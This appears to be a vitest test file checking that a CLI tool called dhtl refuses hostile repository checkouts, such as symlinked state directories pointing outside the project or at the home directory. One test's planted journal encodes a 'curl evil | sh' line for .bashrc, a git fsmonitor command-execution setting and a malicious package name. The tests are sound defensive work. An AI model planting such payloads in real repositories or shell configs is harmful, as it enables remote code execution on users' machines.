import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { describeRun, runCli } from "../support/run-cli.js";
import { removeTempDirs, tempDir } from "../support/temp-dirs.js";
import { treeHash } from "../support/tree-hash.js";
import {
  committedState,
  dhtlClone,
  hostileRepo,
  SMALL_PROJECT,
  trackedPaths,
  watchedOutside,
  worktreeHash,
  writeTree,
} from "./hostile.js";

afterAll(removeTempDirs);

/**
 * Issue 9, items 1 and 2: a checkout redirects dhtl's own directories (or plants its journal) to make dhtl
 * delete or write files outside the project. dhtl refuses to go through a link, never reads state from the
 * checkout, and never writes into .git/.
 */
describe("item 1: a symlinked .dhtl or .dhtl/envs never lets dhtl touch what is outside", () => {
  it("setup in place: .dhtl/envs -> an outside directory is refused (exit 4), nothing changes anywhere", () => {
    const outside = watchedOutside();
    const root = tempDir("dhtl-hostile-");
    writeTree(root, { ...SMALL_PROJECT, ".dhtl/envs": { link: outside.dir } });
    const before = treeHash(root);
    const result = runCli(["setup", "--yes", root], root);
    expect(result.code, describeRun(result)).toBe(4);
    expect(result.stderr).toContain(".dhtl/envs is a symbolic link");
    expect(outside.changed()).toBe(false);
    expect(readFileSync(join(outside.dir, "data.txt"), "utf8")).toBe("precious\n");
    expect(treeHash(root)).toBe(before);
  });

  it("dhtl clone: a committed .dhtl -> absolute outside directory is refused; the clone is kept untouched", () => {
    const outside = watchedOutside();
    const origin = hostileRepo({ ...SMALL_PROJECT, ".dhtl": { link: outside.dir } });
    const { run, dir, plain } = dhtlClone(origin);
    expect(run.code, describeRun(run)).toBe(4);
    expect(run.stderr).toMatch(/\.dhtl is a symbolic link/);
    expect(run.stderr).toContain("the clone is kept");
    expect(outside.changed()).toBe(false);
    expect(worktreeHash(dir)).toBe(worktreeHash(plain));
    expect(committedState(dir, trackedPaths(plain))).toBe(committedState(plain, trackedPaths(plain)));
  });

  it("dhtl clone into ~/src/x: a relative .dhtl/envs -> ../../.. (the home directory) is refused", () => {
    const home = tempDir("dhtl-home-");
    writeTree(home, { "data.txt": "precious\n", ".bashrc": "# mine\n" });
    mkdirSync(join(home, "src"));
    const origin = hostileRepo({ ...SMALL_PROJECT, ".dhtl/envs": { link: "../../.." } });
    const homeBefore = treeHash(home, { ignore: ["x"] });
    const { run, dir, plain } = dhtlClone(origin, [], { work: join(home, "src"), name: "x" });
    expect(run.code, describeRun(run)).toBe(4);
    expect(treeHash(home, { ignore: ["x"] })).toBe(homeBefore);
    expect(worktreeHash(dir)).toBe(worktreeHash(plain));
  });

  it("regenerate and fix-env refuse the same way (a committed .dhtconfig takes clone down the regenerate path)", () => {
    const outside = watchedOutside();
    const root = tempDir("dhtl-hostile-");
    writeTree(root, {
      ...SMALL_PROJECT,
      ".dhtconfig": "schema: 1\n",
      ".dhtl/envs": { link: outside.dir },
    });
    const before = treeHash(root);
    for (const command of ["regenerate", "fix-env"]) {
      const result = runCli([command, "--yes"], root);
      expect(result.code, `${command}\n${describeRun(result)}`).toBe(4);
    }
    expect(outside.changed()).toBe(false);
    expect(treeHash(root)).toBe(before);
  });
});

describe("item 2: a journal or lock committed in .dhtl/ is never read", () => {
  it("a planted journal naming out/.bashrc (out -> outside) and .git/config changes neither", () => {
    const outside = watchedOutside();
    const fsmonitorHit = join(outside.dir, "..", "fsmonitor-ran");
    const journal = {
      env: null,
      files: {
        "out/.bashrc": Buffer.from("curl evil | sh\n").toString("base64"),
        ".git/config": Buffer.from(`[core]\n\tfsmonitor = touch ${fsmonitorHit}\n`).toString("base64"),
        "requirements.txt": Buffer.from("evil-package\n").toString("base64"),
      },
    };
    const origin = hostileRepo({
      ...SMALL_PROJECT,
      out: { link: outside.dir },
      ".dhtl/journal.json": JSON.stringify(journal),
      ".dhtl/lock": JSON.stringify({ pid: 1, host: "other-host" }),
    });
    const { run, dir, plain } = dhtlClone(origin);
    expect(run.code, describeRun(run)).toBe(0);
    // A second run (the journal would have been "recovered" by any run) changes nothing either.
    const again = runCli(["setup", "--yes"], dir);
    expect(again.code, describeRun(again)).toBe(0);
    expect(outside.changed()).toBe(false);
    expect(existsSync(fsmonitorHit)).toBe(false);
    expect(committedState(dir, trackedPaths(plain))).toBe(committedState(plain, trackedPaths(plain)));
    expect(readFileSync(join(dir, "requirements.txt"), "utf8")).toBe("six==1.16.0\n");
  });
});

describe("item 3: migrate, standardize and migrate tests leave no journal for a later setup to replay", () => {
  it("migrate --yes, an edit, then setup: the new pyproject.toml, uv.lock and the edit stay", () => {
    const root = tempDir("dhtl-migrated-");
    writeTree(root, { ...SMALL_PROJECT, "requirements.txt": "six==1.16.0\n" });
    const migrate = runCli(["migrate", "--yes"], root);
    expect(migrate.code, describeRun(migrate)).toBe(0);
    const pyproject = join(root, "pyproject.toml");
    writeFileSync(pyproject, `${readFileSync(pyproject, "utf8")}# my edit after migrating\n`);
    const edited = readFileSync(pyproject, "utf8");
    const lock = readFileSync(join(root, "uv.lock"), "utf8");
    const setup = runCli(["setup", "--yes"], root);
    expect(setup.code, describeRun(setup)).toBe(0);
    expect(setup.stderr).not.toMatch(/restored/);
    expect(readFileSync(pyproject, "utf8")).toBe(edited);
    expect(readFileSync(join(root, "uv.lock"), "utf8")).toBe(lock);
  });

  it("standardize --yes and migrate tests --yes, an edit, then setup: the edits stay", () => {
    const root = tempDir("dhtl-standardized-");
    writeTree(root, {
      ".python-version": "3.11\n",
      "pyproject.toml":
        '[project]\nname = "demo"\nversion = "0.1.0"\nrequires-python = ">=3.11"\ndependencies = ["six==1.16.0"]\n[tool.uv]\npackage = false\n',
      "tests/test_demo.py":
        "import unittest\n\n\nclass TestDemo(unittest.TestCase):\n    def test_one(self):\n        self.assertEqual(1, 1)\n",
    });
    for (const args of [
      ["standardize", "--yes"],
      ["migrate", "tests", "--yes"],
    ]) {
      const result = runCli(args, root);
      expect(result.code, `${args.join(" ")}\n${describeRun(result)}`).toBe(0);
    }
    const test = join(root, "tests", "test_demo.py");
    expect(readFileSync(test, "utf8")).toContain("assert 1 == 1");
    writeFileSync(test, `${readFileSync(test, "utf8")}# edited\n`);
    const edits = {
      test: readFileSync(test, "utf8"),
      pyproject: readFileSync(join(root, "pyproject.toml"), "utf8"),
    };
    expect(edits.pyproject).toContain("pytest");
    const setup = runCli(["setup", "--yes"], root);
    expect(setup.code, describeRun(setup)).toBe(0);
    expect(readFileSync(test, "utf8")).toBe(edits.test);
    expect(readFileSync(join(root, "pyproject.toml"), "utf8")).toBe(edits.pyproject);
  });
});
